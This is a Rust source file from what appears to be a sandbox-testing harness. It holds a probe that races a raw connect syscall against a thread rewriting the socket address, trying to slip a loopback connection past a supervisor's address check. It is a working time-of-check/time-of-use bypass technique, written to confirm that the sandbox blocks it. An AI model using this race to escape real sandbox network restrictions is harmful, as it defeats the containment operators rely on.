#![allow(unsafe_code, reason = "the attack is a raw system call")]

use std::net::TcpStream;
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::{AtomicBool, AtomicU16, Ordering};
use std::time::{Duration, Instant};

use aether_attacks::{at, call};
use rustix::net::{AddressFamily, SocketType, socket};

use crate::errors::While;
use crate::probe::{Expect, Judged, Miss, Need, Outcome, Probe, Row};
use crate::reach;
use crate::scene::Scene;

pub(super) const PROBE: Probe = Probe {
    name: "race-address-buffer",
    tries: "Changes the address under a connect that is being checked, thousands of times.",
    row: Row::Races,
    needs: &[Need::Loopback],
    expect: Expect::Absent,
    judged: Judged::Told,
    attempt,
};

const TRIES: u32 = 5_000;

fn attempt(scene: &Scene) -> Outcome {
    // `struct sockaddr_in`: family, port, 127.0.0.1.
    let address =
        [libc::AF_INET as u16, 1, 0x7f00u16.to_be(), 1u16.to_be(), 0, 0, 0, 0].map(AtomicU16::new);
    let (done, begin) = (AtomicBool::new(false), Instant::now());
    let mut won = Err(Miss::absent("nobody listens"));
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                address[1].store(scene.port.to_be(), Ordering::Relaxed);
                address[1].store(1u16.to_be(), Ordering::Relaxed);
            }
        });
        for _ in 0..TRIES {
            let made: Result<OwnedFd, _> = socket(AddressFamily::INET, SocketType::STREAM, None);
            let socket = match made.at_step("a socket") {
                Ok(socket) => socket,
                Err(miss) => {
                    won = Err(miss);
                    break;
                }
            };
            let arguments = [socket.as_raw_fd() as u64, at(address.as_ptr()), 16];
            // SAFETY: connect(2) reads an address of 16 live bytes.
            let connected = unsafe { call(libc::SYS_connect, arguments) };
            if connected.is_ok() {
                won = reach::hear(TcpStream::from(socket), "on the loopback of the machine");
                break;
            }
            if begin.elapsed() > Duration::from_secs(2) {
                break;
            }
        }
        done.store(true, Ordering::Relaxed);
    });
    won
}
